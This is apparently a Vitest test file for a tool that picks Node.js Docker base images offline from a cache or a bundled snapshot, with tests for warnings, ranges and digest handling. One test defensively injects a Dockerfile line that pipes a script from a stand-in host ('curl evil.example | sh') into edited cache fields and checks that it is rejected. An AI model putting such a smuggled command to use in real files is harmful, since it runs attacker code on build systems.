// --offline and --digest without the network: the cache, the snapshot shipped in the package
// (src/image/snapshot.json: real published digests), and honest errors when neither applies.

import { describe, expect, it } from 'vitest';
import { ImageResolutionError, UsageError } from '../../src/errors.js';
import { createMemoryCache } from '../../src/image/cache.js';
import { resolveNodeImage } from '../../src/image/resolve.js';
import snapshot from '../../src/image/snapshot.json' with { type: 'json' };
import { testDeps } from './helpers.js';

const entry = (major: string) => snapshot.images.find((i) => i.nodeVersion.startsWith(`${major}.`))!;
const node26 = entry('26');
const node24 = entry('24');

describe('offline resolution', () => {
  it('--offline, nothing cached: the snapshot’s newest LTS line on that date, with a loud age warning', async () => {
    const deps = testDeps(); // now = 2026-11-23: Node 26 has been LTS since 2026-10-28
    const { image, warnings } = await resolveNodeImage({ base: 'alpine', offline: true }, deps);
    expect(image).toMatchObject({
      ref: `node:26.5.0-alpine3.24@${node26.indexDigest}`,
      version: '26.5.0',
      source: 'snapshot',
      resolvedFrom: 'snapshot',
      resolvedAt: '2026-07-08T00:00:00.000Z',
    });
    expect(warnings.join('\n')).toMatch(/^WARNING: .*--offline.*published 2026-07-08 \(138 days old\)/);
    expect(deps.log).toEqual([]); // no network at all
  });

  it('before Node 26 became LTS the snapshot answer is Node 24', async () => {
    const { image } = await resolveNodeImage({ base: 'alpine', offline: true }, testDeps({ now: () => new Date('2026-10-01T00:00:00Z') }));
    expect(image.ref).toBe(`node:24.20.0-alpine3.24@${node24.indexDigest}`);
  });

  it('--offline with a range: ^24 -> 24.20.0; >=27 -> exit 4 with advice', async () => {
    expect((await resolveNodeImage({ base: 'alpine', offline: true, nodeRange: '^24' }, testDeps())).image.version).toBe('24.20.0');
    await expect(resolveNodeImage({ base: 'alpine', offline: true, nodeRange: '>=27' }, testDeps())).rejects.toThrow(/no image in the shipped snapshot satisfies ">=27"/);
  });

  it('--offline slim with nothing cached: exit 4 saying the snapshot only has Alpine, suggesting --digest', async () => {
    const error = await resolveNodeImage({ base: 'slim', offline: true }, testDeps()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImageResolutionError);
    expect((error as Error).message).toMatch(/only has Alpine images, not slim.*--digest/);
  });

  it('--offline --base-image: the snapshot does not apply to other repositories', async () => {
    await expect(resolveNodeImage({ base: 'alpine', offline: true, baseImage: 'r.example/base/node' }, testDeps())).rejects.toThrow(/only covers Docker Hub's node image/);
  });

  it('--offline prefers the cached resolution for the same registry, repository, base and range', async () => {
    const cached = { ref: 'node:24.21.0-alpine3.24@sha256:' + '1'.repeat(64), repository: 'node', tag: '24.21.0-alpine3.24', version: '24.21.0', digest: 'sha256:' + '1'.repeat(64), source: 'registry', resolvedAt: '2026-11-20T00:00:00.000Z', resolvedFrom: 'registry-1.docker.io' };
    const cache = createMemoryCache({ 'resolution:https://registry-1.docker.io/library/node:alpine:^24': { image: cached, storedAt: cached.resolvedAt } });
    const { image, warnings } = await resolveNodeImage({ base: 'alpine', offline: true, nodeRange: '^24' }, testDeps({ cache }));
    expect(image).toMatchObject({ ref: cached.ref, source: 'cache', resolvedFrom: 'cache', resolvedAt: cached.resolvedAt });
    expect(warnings.join('\n')).toMatch(/cached 3 day\(s\) ago from registry-1\.docker\.io/);
  });

  it('a cached entry someone edited is a cache miss: no hostile field reaches the FROM line (issue 13 item 1)', async () => {
    const good = { ref: 'node:24.21.0-alpine3.24@sha256:' + '1'.repeat(64), repository: 'node', tag: '24.21.0-alpine3.24', version: '24.21.0', digest: 'sha256:' + '1'.repeat(64), source: 'registry', resolvedAt: '2026-11-20T00:00:00.000Z', resolvedFrom: 'registry-1.docker.io' };
    const hostile = 'x\nRUN curl evil.example | sh\n';
    const edits: Record<string, unknown>[] = [
      { ref: `node:24.21.0-alpine3.24@sha256:${'1'.repeat(64)}${hostile}` },
      { tag: `24.21.0-alpine3.24${hostile}` },
      { version: `24.21.0${hostile}` },
      { digest: `sha256:${'1'.repeat(64)}${hostile}` },
      { resolvedAt: hostile },
      { resolvedFrom: hostile },
      { repository: `node${hostile}` },
      { ref: 'node:24.21.0-alpine3.24@sha256:' + '2'.repeat(64) }, // a ref that is not its own parts
      { version: 24 },
    ];
    for (const edit of edits) {
      const cache = createMemoryCache({ 'resolution:https://registry-1.docker.io/library/node:alpine:^24': { image: { ...good, ...edit }, storedAt: good.resolvedAt } });
      const { image } = await resolveNodeImage({ base: 'alpine', offline: true, nodeRange: '^24' }, testDeps({ cache }));
      expect(image.source, JSON.stringify(edit)).toBe('snapshot');
      expect(JSON.stringify(image)).not.toContain('evil.example');
    }
  });
});

describe('--digest without the network', () => {
  it('a digest from the snapshot gets its exact tag', async () => {
    const { image, warnings } = await resolveNodeImage({ base: 'alpine', offline: true, digest: node24.indexDigest }, testDeps());
    expect(image).toMatchObject({ ref: `node:24.20.0-alpine3.24@${node24.indexDigest}`, source: 'flag', resolvedFrom: 'flag' });
    expect(warnings).toEqual([]);
  });

  it('an unknown digest with an exact --node: <version>-alpine', async () => {
    const digest = `sha256:${'c'.repeat(64)}`;
    const { image } = await resolveNodeImage({ base: 'alpine', offline: true, digest, nodeRange: '24.21.0' }, testDeps());
    expect(image.ref).toBe(`node:24.21.0-alpine@${digest}`);
  });

  it('an unknown digest with a range: the snapshot’s version as a label, with a warning saying so', async () => {
    const digest = `sha256:${'d'.repeat(64)}`;
    const { image, warnings } = await resolveNodeImage({ base: 'alpine', offline: true, digest, nodeRange: '^24' }, testDeps());
    expect(image.ref).toBe(`node:24.20.0-alpine3.24@${digest}`);
    expect(warnings.join('\n')).toMatch(/was not checked against the digest/);
  });

  it('an unknown digest for slim and no exact version: exit 4 asking for --node', async () => {
    await expect(resolveNodeImage({ base: 'slim', offline: true, digest: `sha256:${'e'.repeat(64)}` }, testDeps())).rejects.toThrow(/--node <exact version>/);
  });

  it('an invalid --digest or range is a usage error (exit 2) before anything else', async () => {
    await expect(resolveNodeImage({ base: 'alpine', digest: 'sha256:nope' }, testDeps())).rejects.toBeInstanceOf(UsageError);
    await expect(resolveNodeImage({ base: 'alpine', nodeRange: '>=banana' }, testDeps())).rejects.toBeInstanceOf(UsageError);
  });
});
